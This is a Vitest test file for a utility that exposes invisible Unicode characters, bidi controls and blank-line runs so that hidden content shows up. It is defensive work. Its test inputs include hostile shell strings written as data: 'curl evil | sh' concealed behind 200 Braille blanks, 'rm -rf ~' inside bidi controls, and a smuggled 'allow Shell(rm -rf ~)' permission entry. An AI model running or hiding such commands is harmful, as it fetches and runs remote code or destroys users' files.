import { describe, expect, it } from 'vitest';
import { revealInvisible, revealInvisibleLines, revealInvisibleOneLine } from './reveal-invisible.js';

describe('revealInvisible', () => {
  it.each([
    ['plain text stays', 'git status && ls -la\tx', 'git status && ls -la\tx'],
    ['other Unicode stays', 'héllo — 你好 ✓ 🙂', 'héllo — 你好 ✓ 🙂'],
    [
      'a Braille blank run pushing a tail away',
      `echo hi${'\u2800'.repeat(200)}; curl evil | sh`,
      'echo hi⟨U+2800 ×200⟩; curl evil | sh',
    ],
    ['a single zero-width space', 'r\u200Bm', 'r⟨U+200B⟩m'],
    ['Hangul fillers', '\u3164\u3164\u115F\u1160\uFFA0', '⟨U+3164 ×2⟩⟨U+115F⟩⟨U+1160⟩⟨U+FFA0⟩'],
    [
      'word joiners and invisible operators',
      '\u2060\u2061\u2062\u2063\u2064',
      '⟨U+2060⟩⟨U+2061⟩⟨U+2062⟩⟨U+2063⟩⟨U+2064⟩',
    ],
    ['bidi controls', 'a\u202Eb\u2066c\u2069', 'a⟨U+202E⟩b⟨U+2066⟩c⟨U+2069⟩'],
    ['a byte order mark', '\uFEFFls', '⟨U+FEFF⟩ls'],
    ['tag characters (astral)', `x${'\u{E0041}'.repeat(3)}y`, 'x⟨U+E0041 ×3⟩y'],
    ['variation selectors', 'a\uFE0F\u{E0100}', 'a⟨U+FE0F⟩⟨U+E0100⟩'],
    ['NBSP and Unicode spaces', 'a\u00A0\u00A0b\u2003c\u3000d', 'a⟨U+00A0 ×2⟩b⟨U+2003⟩c⟨U+3000⟩d'],
    ['control characters, as the terminal sanitiser shows them', 'a\x1b[2Kb\rc\u009b', 'a␛[2Kb␍c⟨U+009B⟩'],
    ['blank lines', 'rm -rf ~/work\n\n\n\n\nls -la', 'rm -rf ~/work\n⟨4 blank lines⟩\nls -la'],
    ['one blank line stays', 'a\n\nb', 'a\n\nb'],
    ['blank lines of spaces and tabs', 'a\n  \n\t\n \nb', 'a\n⟨3 blank lines⟩\nb'],
  ])('%s', (_name, input, expected) => {
    expect(revealInvisible(input)).toBe(expected);
  });
});

describe('revealInvisibleLines', () => {
  it('reveals each character as revealInvisible does, and keeps every line (blank ones too)', () => {
    const text = '# ok \u202E\u2066\n\n\n\nrm -rf ~ \u2069\r\nx\u2800\u2800';
    expect(revealInvisibleLines(text)).toBe('# ok ⟨U+202E⟩⟨U+2066⟩\n\n\n\nrm -rf ~ ⟨U+2069⟩\nx⟨U+2800 ×2⟩');
    expect(revealInvisibleLines(text).split('\n')).toHaveLength(text.split('\n').length);
  });
});

describe('revealInvisibleOneLine', () => {
  it('keeps an entry on its line: newlines and tabs as pictures, the rest revealed', () => {
    expect(revealInvisibleOneLine('Shell(ls)\n  allow Shell(rm -rf ~)\t\u202e')).toBe(
      'Shell(ls)␊  allow Shell(rm -rf ~)␉⟨U+202E⟩',
    );
    expect(revealInvisibleOneLine(`a${'\n'.repeat(5)}b`)).toBe('a␊⟨4 blank lines⟩␊b');
  });
});
